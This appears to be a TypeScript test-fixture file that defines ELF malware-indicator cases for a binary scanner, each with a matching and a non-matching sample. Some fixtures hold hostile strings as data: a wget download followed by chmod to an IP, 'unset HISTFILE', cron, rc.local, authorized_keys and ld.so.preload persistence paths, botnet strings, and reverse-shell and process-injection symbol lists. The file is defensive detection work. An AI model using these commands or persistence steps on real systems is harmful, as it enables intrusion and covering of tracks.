import type { ElfFacts } from "@fumehood/inspect";
import { elfOf, type FactsInput } from "../facts.ts";
import type { IndicatorCase } from "./case.ts";

function elf(overrides: Partial<ElfFacts>, ...strings: string[]): FactsInput {
  return { type: "elf", elf: elfOf(overrides), strings };
}

const MODULE: Partial<ElfFacts> = {
  type: "relocatable",
  sections: [
    { name: ".modinfo", type: "PROGBITS", offset: 64, sizeBytes: 64, entropy: 4, writable: false, executable: false },
  ],
};

export const ELF_CASES: readonly IndicatorCase[] = [
  ["elf-upx-packed", elf({ isUpxPacked: true }), elf({}, "UPX!")],
  [
    "elf-static-stripped",
    elf({ isStatic: true, isStripped: true, type: "executable" }),
    elf({ isStatic: true, isStripped: false, type: "executable" }),
  ],
  [
    "elf-no-section-headers",
    elf({ hasSectionHeaders: false, sections: [] }),
    elf({ hasSectionHeaders: false, type: "core" }),
  ],
  [
    "elf-writable-executable-segment",
    elf({
      hasWritableExecutableSegment: true,
      segments: [{ type: "LOAD", offset: 0, fileSize: 1, memorySize: 1, permissions: "rwx" }],
    }),
    elf({}),
  ],
  ["elf-executable-stack", elf({ hasExecutableStack: true }), elf({ hasExecutableStack: true, type: "relocatable" })],
  ["elf-search-path-unsafe", elf({ rpath: ["/tmp/lib"] }), elf({ rpath: ["$ORIGIN/../lib", "/opt/lib"] })],
  ["elf-interpreter-unusual", elf({ interpreter: "/tmp/ld.so" }), elf({ interpreter: "/lib/ld-musl-x86_64.so.1" })],
  [
    "elf-memory-execution",
    elf({ importedSymbols: ["memfd_create", "fexecve"] }),
    elf({ importedSymbols: ["memfd_create", "execve"] }),
  ],
  [
    "elf-remote-shell-api",
    elf({ importedSymbols: ["socket@GLIBC_2.2.5", "connect", "dup2", "execve"] }),
    elf({ importedSymbols: ["socket", "connect", "execve"] }),
  ],
  [
    "elf-process-injection-api",
    elf({ importedSymbols: ["process_vm_writev"] }),
    elf({ importedSymbols: ["process_vm_readv"] }),
  ],
  [
    "elf-botnet-strings",
    elf({}, "/bin/busybox ECCHI", "/ctrlt/DeviceUpgrade_1"),
    elf({}, "/bin/busybox ECCHI", "/bin/busybox ECCHI"),
  ],
  [
    "elf-persistence-paths",
    elf({}, "/etc/cron.d/x", "/etc/rc.local", "/root/.ssh/authorized_keys"),
    elf({}, "/etc/cron.d/x", "/etc/rc.local"),
  ],
  ["elf-preload-hook", elf({}, "/etc/ld.so.preload"), elf({ soname: "ld-linux-x86-64.so.2" }, "/etc/ld.so.preload")],
  [
    "elf-download-commands",
    elf({}, "wget http://198.51.100.1/x -O /tmp/x; chmod 777 /tmp/x"),
    elf({}, "usage: wget URL", "chmod 777"),
  ],
  ["elf-history-tampering", elf({}, "unset HISTFILE"), elf({}, "HISTFILE")],
  ["elf-kernel-module", elf(MODULE), elf({ type: "relocatable" })],
  ["elf-kernel-hooking", elf(MODULE, "sys_call_table"), elf({}, "sys_call_table")],
  [
    "elf-overlay-random",
    elf({ overlay: { offset: 4096, sizeBytes: 100_000, entropy: 7.99 } }),
    elf({ overlay: { offset: 4096, sizeBytes: 500, entropy: 7.99 } }),
  ],
  ["elf-malformed", elf({ problems: ["A segment lies behind the end of the file."] }), elf({})],
];
